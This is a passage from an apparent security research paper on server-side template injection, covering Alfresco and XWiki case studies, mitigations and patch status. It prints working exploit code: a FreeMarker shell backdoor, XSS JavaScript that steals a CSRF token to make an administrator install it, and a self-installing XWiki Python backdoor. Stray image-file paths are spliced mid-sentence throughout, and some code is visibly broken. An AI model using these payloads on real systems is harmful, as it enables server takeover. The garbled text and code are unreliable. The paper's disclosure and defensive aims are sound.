Alfresco is a content management system (CMS) aimedat corporate users. Low privilege users can chain a stored XSS vulnerability in the comment system with FreeMarker template injection to gain a shell on the webserver. The FreeMarker payload created earlier can be used directly without any modification, but I've expanded it into a classic backdoor that executes the contents of the query string as a shell command:
<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex(url.getArgs())}

Low privilege users do not have permission to edit templates, but the stored XSS vulnerability can be used to force an administrator to install our backdoor for us. I injected the following JavaScript to launch this attack:
tok = /Alfresco-CSRFToken=([^;]*)/.exec(document.cookie)[1];
tok = decodeURIComponent(tok)
do_csrf = new XMLHttpRequest();"POST","http://"+document.domain+":8080/share/proxy/alfresco/api/node/workspace/SpacesStore/59d3cbdc-70cb-419e-a325-759a4c307304/formprocessor",false);
do_csrf.setRequestHeader('Content-Type','application/json; charset=UTF-8');
do_csrf.send('{"prop_cm_name":"folder.get.html.ftl","prop_cm_content":"&lgt;#assign ex=\\"freemarker.template.utility.Execute\\"?new()> ${ ex(url.getArgs())}","prop_cm_description":""}');

The GUID value of templates can change across installations, but it's easily visible to low privilege users via the 'Data Dictionary'. Also, the administrative user is fairly restricted in the actions they can take, unlike otherapplications where administrators are intentionally granted complete control over the webserver.

Note that according to Alfresco's own documentation, SELinux will do nothing to confine the resulting shell:
If you installed Alfresco using the setup wizard, the script included in the installation disables the Security-Enhanced Linux (SELinux) feature across the system.

Case Study: XWiki Enterprise

XWiki Enterprise is a feature-rich professional wiki. In the default configuration, anonymous users can register accounts on it and edit wiki pages, which can contain embedded Velocity template code. This makes it an excellent target for template injection. However, the generic Velocity payload created earlier will not work, as the $class helper is not available.
XWiki has the following to say about Velocity:
It doesn't require special permissions since it runs in a Sandbox, with access to only a few safe objects, and each API call will check the rights configured in the wiki, forbidding access to resources or actions that the current user shouldn't be allowed to retrieve/perform. Other scripting language require the user that wrote the script to have Programming Rights to execute them, but except this initial precondition, access is granted to all the resources on the server.
Without programming rights, it's impossible to instantiate new objects, except literals and those safely offered by the XWiki APIs. Nevertheless, the XWiki API is powerful enough to allow a wide range of applications to be safely developed, if "the XWiki way" is properly followed.
Programming Rightsare not required for viewing a page containing a script requiring Programming Rights, rights are only needed at save time

In other words, XWiki doesn't just support Velocity - it also supports unsandboxed Groovy and Python scripting. However, these arerestricted to users with programming rights. This is good to know because it turns privilege escalation into arbitrary code execution. Since we can only use Velocity, we are limited to the XWiki APIs.
The $doc class has some very interesting methods - astute readers may be able to identify an implied vulnerability in the following:

The content author of a wiki page is the user who last edited it. The presence of distinctsave and saveAsAuthor methods implies that the save method does not save as the author, but as the person currently viewing the page. In other words, a low privilege user can create a wiki page that, when viewed by a user with programming rights, silently modifies itself and saves the modifications with those rights. To inject the following Python backdoor:
{{python}}from subprocess importcheck_output
q = request.get('q') or 'true'
q = q.split(' ')
print ''+check_output(q)+''

We just need to wrap it with some code to grab the privileges of a passing administrator:
innocent content
#if( $doc.hasAccessLevel("programming") )
        innocent content
        {{python}}from subprocess import check_output
        q = request.get('q') or 'true'
        q = q.split(' ')
        print ''+check_output(q)+''

As soon as a wiki page with this content is viewed by a user with programming rights, it will backdoor itself. Any user who subsequently views the page can use it to execute arbitrary shell commands:Although I chose to exploit $, it is far from the only promising API method. Other potentially useful methods include $xwiki.getURLContent(""), $request.getCookie("password").getValue(), and $services.csrf.getToken().

Mitigations - TemplatingSafely

If user-supplied templates are a business requirement, how should they be implemented? We have already seen that regexes are not an effective defense, andparser-level sandboxes are error prone. The lowest risk approach is to simply use a trivial template engine such as Mustache, or Python's Template. MediaWiki has taken the approach of executing users' code using a sandboxed Lua environment where potentially dangerous modules and functions have been outright removed. This strategy appears to have held up well, given the lack of people compromising Wikipedia. In languages such as Ruby it may be possible to emulate this approach using monkey-patching.

Another, complementary approach is to concede that arbitrary code execution is inevitable and sandbox it inside a locked-down Docker container. Through the use of capability-dropping, read-only filesystems, and kernel hardening it is possible to craft a 'safe' environment that is difficult to escape from.

Issue Status

I do not consider the exploits shown for FreeMarker, Jade, Velocity and unsandboxed Twig to be vulnerabilities in those languages, in the same way that the possibility of SQL injection is not the fault of MYSQL. The following table shows the current status of the vulnerabilities disclosed in this paper.

AlfrescoDisclosure acknowledged, patch in development
XWikiNo fix available - XWiki developers do not have a consensus that this is a bug
Smarty sandboxFixed in 3.1.24
Twig sandboxFixed in 1.20.0


Template Injection is only apparent to auditors who explicitly look for it, and may incorrectly appear to be low severity until resources are invested in assessing the template engine's security posture. This explains why Template Injection has remained relatively unknown up till now, and its prevalence in the wild remains to be determined.

Template engines are server-side sandboxes. As a result, allowing untrusted users to edit templates introduces an array of serious risks, which may or may not be evident in thetemplate system's documentation. Many modern technologies designed to prevent templates from doing harm are currently immature and should not be relied on except as a defense in depth measure. When Template Injection occurs, regardless of whether it was intentional, it is frequently a critical vulnerability that exposes the web application, the underlying webserver, and adjacent network services.

By thoroughly documenting this issue,and releasing automated detection viaBurp Suite, we hope to raise awareness ofit and significantly reduce its prevalence.